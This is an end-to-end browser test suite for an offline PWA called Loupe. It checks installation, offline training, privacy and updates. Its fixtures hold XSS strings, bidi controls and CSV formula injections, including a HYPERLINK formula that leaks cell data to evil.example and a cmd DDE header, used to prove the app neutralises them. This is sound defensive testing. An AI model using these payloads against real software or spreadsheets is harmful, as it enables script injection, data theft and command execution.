/**
 * Loupe as an installed, offline, isolated and private app, on a plain static file server that
 * sends no headers but Content-Type (most static hosts):
 * - first visit: the service worker takes control, the page reloads itself once and comes back
 *   cross-origin isolated; the manifest is valid and Chromium finds the app installable;
 * - then with the network off: reload, load a CSV whose header and cells hold HTML, bidi
 *   controls and spreadsheet formulas (shown as text), explore, train two models on the threaded
 *   backend, predict one row and a file (the downloaded CSV has its formulas neutralised),
 *   register, export the bundle — with the host emptied meanwhile, and asked for nothing but the
 *   browser's own check for a new service worker;
 * - over the whole journey: no request to another origin, no CSP violation, tfjs never on the page;
 * - with service workers blocked, the app still works, single-threaded, and says so;
 * - a second deployment at the same origin shows "update available"; accepting it reloads into
 *   the new build with the stored data kept.
 */
import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createHash } from 'node:crypto';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import Papa from 'papaparse';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { MODEL_TYPES } from '../../src/core/models/catalog';
import { chooseModels, exportVersion, goTo, loadSample, openBrowser, registerModel, ROOT, type BrowserSession } from './browser';
import { watchPrivacy, type PrivacyWatch } from './privacy-watch';
import { serveStatic, type StaticServer } from './static-server';

const DIST = join(ROOT, 'dist');
const TIMEOUT = 120_000;

const HTML_COL = '<img src=x onerror="window.__pwned=1">';
const HTML_CELLS = ['<b>bold</b>', '<script>window.__pwned=2</script>', '\u202eevil\u202c', '<img src=y onerror="window.__pwned=3">'];
const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+1+1', '@SUM(A1)', '-5'];
const FORMULA_HEADER = "=cmd|' /C calc'!A0";
const CUTS = ['Fair', 'Good', 'Very Good', 'Premium', 'Ideal'];

/** A small gemstone-like table whose header and cells hold HTML, bidi controls and formulas. */
function hostileCsv(rows: number, forPrediction: boolean): string {
  const header = forPrediction ? ['carat', 'cut', HTML_COL, 'note', FORMULA_HEADER] : ['carat', 'cut', HTML_COL, 'note', 'price'];
  const body: string[][] = [];
  for (let i = 0; i < rows; i++) {
    const carat = 0.3 + ((i * 37) % 200) / 100;
    const last = forPrediction ? FORMULAS[(i + 1) % 4] : String(Math.round(4000 * carat + 300 * (i % 5) + 90 * (i % 4) + 13 * (i % 7)));
    body.push([forPrediction && i === 2 ? 'abc' : carat.toFixed(2), CUTS[i % 5], HTML_CELLS[i % 4], FORMULAS[(i >> 2) % 4], last]);
  }
  return Papa.unparse([header, ...body], { newline: '\n' }) + '\n';
}

/** Waits until the service worker controls the page and the page is cross-origin isolated (across its one reload). */
async function waitIsolated(page: Page): Promise<void> {
  await expect
    .poll(() => page.evaluate(() => crossOriginIsolated && navigator.serviceWorker.controller !== null).catch(() => false), { timeout: TIMEOUT, interval: 250 })
    .toBe(true);
}

describe('on a plain static host: install, then the whole workflow offline', () => {
  let server: StaticServer;
  let s: BrowserSession;
  let page: Page;
  let watch: PrivacyWatch;
  let tmp: string;
  let loads = 0;
  let offlineFrom = 0;

  beforeAll(async () => {
    tmp = mkdtempSync(join(tmpdir(), 'loupe-pwa-'));
    server = await serveStatic(DIST, 'plain');
    s = await openBrowser('pwa-offline', { baseUrl: server.url });
    page = s.page;
    watch = await watchPrivacy(s.context);
    page.on('load', () => loads++);
  });

  afterAll(async () => {
    await s?.close();
    await server?.close();
    if (tmp) rmSync(tmp, { recursive: true, force: true });
  });

  it('first visit: the service worker takes control and one reload makes the page cross-origin isolated', async () => {
    await page.goto(s.baseUrl);
    await page.getByRole('heading', { name: 'Data', level: 1 }).waitFor();
    await waitIsolated(page);
    await page.getByRole('heading', { name: 'Data', level: 1 }).waitFor();
    await page.waitForTimeout(1500); // a loop would show as more loads
    expect(loads).toBe(2);
    await s.shot('installed');
  });

  it('the manifest is valid and Chromium finds the app installable', async () => {
    const cdp = await s.context.newCDPSession(page);
    const manifest = (await cdp.send('Page.getAppManifest')) as { url: string; errors: unknown[]; data?: string };
    expect(manifest.errors).toEqual([]);
    expect(manifest.url).toBe(`${server.url}manifest.webmanifest`);
    const m = JSON.parse(manifest.data ?? '{}') as { start_url: string; scope: string; display: string; icons: { src: string; sizes: string; purpose: string }[] };
    expect(m).toMatchObject({ start_url: './', scope: './', display: 'standalone' });
    for (const size of [192, 512]) {
      const icon = m.icons.find((i) => i.sizes === `${size}x${size}` && i.purpose === 'any');
      expect(icon, `a ${size}px icon`).toBeDefined();
      const png = readFileSync(join(DIST, icon!.src));
      expect([png.readUInt32BE(16), png.readUInt32BE(20)]).toEqual([size, size]); // IHDR width, height
    }
    const { installabilityErrors } = (await cdp.send('Page.getInstallabilityErrors')) as { installabilityErrors: { errorId: string }[] };
    expect(installabilityErrors.map((e) => e.errorId)).toEqual([]);
    await cdp.detach();
  });

  it('offline: reloads, loads a CSV with HTML in its header and cells, and shows them as text', async () => {
    await s.context.setOffline(true);
    // And the host itself is gone: were anything still fetched, it would fail.
    server.setRoot(join(tmp, 'nothing-here'));
    offlineFrom = server.requests.length;
    await page.reload();
    await page.getByRole('heading', { name: 'Data', level: 1 }).waitFor();
    expect(await page.evaluate(() => crossOriginIsolated)).toBe(true);
    const input = join(tmp, 'hostile.csv');
    writeFileSync(input, hostileCsv(1500, false));
    await page.getByLabel('CSV file', { exact: true }).setInputFiles(input);
    await page.getByTestId('row-count').filter({ hasText: /^1,500$/ }).waitFor({ timeout: TIMEOUT });
    await page.getByText(HTML_COL).first().waitFor();
    await page.getByText('<b>bold</b>').first().waitFor();
    const injected = await page.evaluate(() => ({
      pwned: (window as unknown as { __pwned?: number }).__pwned ?? null,
      images: document.querySelectorAll('img').length,
      bold: [...document.querySelectorAll('b')].filter((b) => b.textContent === 'bold').length,
      scripts: [...document.querySelectorAll('script')].filter((e) => e.textContent?.includes('__pwned')).length,
    }));
    expect(injected).toEqual({ pwned: null, images: 0, bold: 0, scripts: 0 });
    await s.shot('hostile-csv');
  });

  it('offline: explores, then trains two models on the threaded backend', async () => {
    await goTo(page, 'Explore', TIMEOUT);
    await page.getByTestId('target-histogram').locator('svg').first().waitFor({ timeout: TIMEOUT });
    await goTo(page, 'Train', TIMEOUT);
    await page.getByTestId('backend').filter({ hasText: 'wasm' }).waitFor({ timeout: TIMEOUT });
    const backend = await page.getByTestId('backend').textContent();
    expect(backend).toMatch(/threaded SIMD/);
    expect(backend).toMatch(/cross-origin isolated/);
    await chooseModels(page, ['linear', 'gbdt']);
    await page.getByRole('button', { name: 'Train 2 models' }).click();
    for (const t of ['linear', 'gbdt']) await page.locator(`[data-testid="candidate-${t}"][data-status="finished"]`).waitFor({ timeout: TIMEOUT });
    await page.getByTestId('leaderboard').waitFor();
    await s.shot('trained-offline');
  });

  it('offline: predicts one row and a file; the downloaded CSV has its formulas neutralised', async () => {
    await goTo(page, 'Predict', TIMEOUT);
    await page.getByTestId('model-facts').waitFor({ timeout: TIMEOUT });
    expect(await page.getByTestId('row-form').textContent()).toContain(HTML_COL);
    await page.locator('#in-carat').fill('1.25');
    await page.waitForFunction(() => {
      const e = document.querySelector('[data-testid="row-prediction"]');
      return e?.getAttribute('data-pending') === 'false' && e.getAttribute('data-value') !== '';
    });
    expect(Number(await page.getByTestId('row-prediction').getAttribute('data-value'))).toBeGreaterThan(1000);

    const input = join(tmp, 'to-predict.csv');
    writeFileSync(input, hostileCsv(40, true));
    await page.getByLabel('CSV file to predict').setInputFiles(input);
    await page.getByTestId('predict-result').waitFor({ timeout: TIMEOUT });
    expect(await page.getByTestId('summary-rows').textContent()).toBe('40');
    const [d] = await Promise.all([page.waitForEvent('download'), page.getByTestId('download-predictions').click()]);
    const out = join(tmp, 'predictions.csv');
    await d.saveAs(out);
    const rows = Papa.parse<string[]>(readFileSync(out, 'utf8').trim()).data;
    const header = rows[0];
    expect(header).toEqual(['carat', 'cut', HTML_COL, 'note', `'${FORMULA_HEADER}`, 'prediction', 'error']);
    const note = rows.slice(1).map((r) => r[3]);
    expect(new Set(note)).toEqual(new Set([`'${FORMULAS[0]}`, `'+1+1`, `'@SUM(A1)`, '-5']));
    expect(new Set(rows.slice(1).map((r) => r[4]))).toEqual(new Set([`'${FORMULAS[0]}`, `'+1+1`, `'@SUM(A1)`, '-5']));
    // "abc" in a number column is read as missing (as loading the training file does): the row is predicted, with a warning.
    const notNumbers = rows.slice(1).filter((r) => /"abc" is not a number/.test(r[6]));
    expect(notNumbers).toHaveLength(1);
    expect(notNumbers[0][5]).not.toBe('');
    expect(notNumbers[0][6]).toMatch(/^warning: /);
    for (const r of rows.slice(1)) for (const cell of r) expect(cell).not.toMatch(/^[=+@\t\r]|^-(?!\d)/);
  });

  it('offline: registers the best run and exports its bundle', async () => {
    await goTo(page, 'Runs', TIMEOUT);
    const rows = page.getByTestId('run-row');
    await expect.poll(() => page.locator('[data-testid="run-row"][data-status="finished"]').count(), { timeout: 10_000 }).toBe(2);
    await rows.first().getByRole('button', { name: /^Register run/ }).click();
    await registerModel(page, { name: 'price' });
    await goTo(page, 'Models', TIMEOUT);
    const bundle = JSON.parse(await exportVersion(page, 1, join(tmp, 'bundle.json'))) as { name: string; model: { type: string }; schema?: unknown };
    expect(MODEL_TYPES).toContain(bundle.model.type);
    await s.shot('registered-offline');
  });

  it('over the whole journey: nothing asked of any other origin, no CSP violation, tfjs never on the page', async () => {
    // While offline the page and its workers asked the host for nothing; the browser itself may
    // have checked for a new service worker (outside the page's network emulation).
    expect(server.requests.slice(offlineFrom).filter((p) => p !== '/sw.js')).toEqual([]);
    await s.context.setOffline(false);
    server.setRoot(DIST);
    expect(watch.requests.length).toBeGreaterThan(20);
    expect(watch.foreign(new URL(server.url).origin)).toEqual([]);
    expect(watch.violations).toEqual([]);
    expect(await page.evaluate(() => '_tfengine' in globalThis)).toBe(false);
    expect(s.pageErrors).toEqual([]);
  });

  it('Stored data lists what Loupe keeps, and "delete everything" empties it', async () => {
    await page.getByRole('button', { name: 'Stored data' }).click();
    const panel = page.getByTestId('stored-data');
    const count = async (kind: string): Promise<number> => Number(await panel.getByTestId(`stored-${kind}`).getAttribute('data-count'));
    await panel.getByTestId('stored-app-files').waitFor();
    expect([await count('dataset'), await count('run'), await count('model-version')]).toEqual([1, 2, 1]);
    expect(await count('app-files')).toBeGreaterThan(20);
    await panel.getByRole('button', { name: 'Delete everything…' }).click();
    await Promise.all([page.waitForEvent('load', { timeout: TIMEOUT }), panel.getByRole('button', { name: 'Yes, delete everything' }).click()]);
    await page.getByRole('heading', { name: 'Models', level: 1 }).waitFor();
    await page.getByTestId('no-registered').waitFor();
    await page.getByRole('button', { name: 'Stored data' }).click();
    await page.getByTestId('stored-data').getByTestId('stored-dataset').waitFor();
    expect([await count('dataset'), await count('run'), await count('model-version')]).toEqual([0, 0, 0]);
    await s.shot('deleted-everything');
  });
});

describe('on a plain static host with service workers blocked', () => {
  let server: StaticServer;
  let s: BrowserSession;
  let watch: PrivacyWatch;

  beforeAll(async () => {
    server = await serveStatic(DIST, 'plain');
    s = await openBrowser('pwa-no-sw', { baseUrl: server.url, serviceWorkers: 'block' });
    watch = await watchPrivacy(s.context);
  });

  afterAll(async () => {
    await s?.close();
    await server?.close();
  });

  it('still works, single-threaded, and the Train screen says so', async () => {
    const { page } = s;
    await page.goto(s.baseUrl);
    await page.getByRole('heading', { name: 'Data', level: 1 }).waitFor();
    await loadSample(page, TIMEOUT);
    await goTo(page, 'Train', TIMEOUT);
    await page.getByTestId('backend').filter({ hasText: 'wasm' }).waitFor({ timeout: TIMEOUT });
    const backend = await page.getByTestId('backend').textContent();
    expect(backend).toMatch(/wasm \(SIMD, 1 thread\)/);
    expect(backend).toMatch(/single-threaded: this page is not cross-origin isolated/);
    await chooseModels(page, ['linear', 'knn']);
    await page.getByRole('button', { name: 'Train 2 models' }).click();
    for (const t of ['linear', 'knn']) await page.locator(`[data-testid="candidate-${t}"][data-status="finished"]`).waitFor({ timeout: TIMEOUT });
    expect(await page.evaluate(() => crossOriginIsolated)).toBe(false);
    expect(await page.evaluate(() => navigator.serviceWorker.controller)).toBeNull();
    await page.getByRole('button', { name: 'Stored data' }).click();
    expect(await page.getByTestId('isolation-status').textContent()).toMatch(/Not cross-origin isolated/);
    expect(watch.foreign(new URL(server.url).origin)).toEqual([]);
    expect(watch.violations).toEqual([]);
    await s.shot('no-service-worker');
  });
});

describe('a new deployment at the same origin', () => {
  let server: StaticServer;
  let s: BrowserSession;
  let tmp: string;
  let first: string;
  let second: string;
  let secondDir: string;

  beforeAll(async () => {
    // Build once, deploy twice: the second copy is the first with another build id in index.html
    // and, as Workbox's precache manifest requires, that page's new revision in sw.js.
    tmp = mkdtempSync(join(tmpdir(), 'loupe-update-'));
    const a = join(tmp, 'a');
    const b = (secondDir = join(tmp, 'b'));
    cpSync(DIST, a, { recursive: true });
    cpSync(DIST, b, { recursive: true });
    const html = readFileSync(join(b, 'index.html'), 'utf8');
    first = /<meta name="loupe-build" content="([^"]+)"/.exec(html)![1];
    second = `${first}-next`;
    const next = html.replace(`content="${first}"`, `content="${second}"`);
    writeFileSync(join(b, 'index.html'), next);
    const sw = readFileSync(join(b, 'sw.js'), 'utf8');
    const revised = sw.replace(/("revision":")[0-9a-f]+(","url":"index\.html")/, `$1${createHash('md5').update(next).digest('hex')}$2`);
    expect(revised).not.toBe(sw);
    writeFileSync(join(b, 'sw.js'), revised);
    server = await serveStatic(a, 'plain');
    s = await openBrowser('pwa-update', { baseUrl: server.url });
  });

  afterAll(async () => {
    await s?.close();
    await server?.close();
    if (tmp) rmSync(tmp, { recursive: true, force: true });
  });

  it('shows "update available"; accepting reloads into the new build and keeps the stored data', async () => {
    const { page } = s;
    await page.goto(s.baseUrl);
    await waitIsolated(page);
    await loadSample(page, TIMEOUT);
    await page.getByRole('button', { name: 'Stored data' }).click();
    await page.getByTestId('build-id').filter({ hasText: first }).waitFor();
    await page.getByTestId('stored-dataset').and(page.locator('[data-count="1"]')).waitFor();
    await page.keyboard.press('Escape');

    server.setRoot(secondDir);
    await page.reload();
    const prompt = page.getByTestId('update-available');
    await prompt.waitFor({ timeout: TIMEOUT });
    await s.shot('update-available');
    expect(await page.evaluate(() => document.querySelector('meta[name="loupe-build"]')?.getAttribute('content'))).toBe(first);
    await Promise.all([page.waitForEvent('load', { timeout: TIMEOUT }), prompt.getByRole('button', { name: 'Reload to update' }).click()]);
    await page.getByRole('heading', { name: 'Data', level: 1 }).waitFor();
    expect(await page.evaluate(() => document.querySelector('meta[name="loupe-build"]')?.getAttribute('content'))).toBe(second);
    expect(await page.evaluate(() => crossOriginIsolated)).toBe(true);
    expect(await page.getByTestId('update-available').count()).toBe(0);
    expect(await page.getByTestId('dataset-name').textContent()).toBe('gemstone-sample-synthetic.csv');
    await s.shot('updated');
  });
});
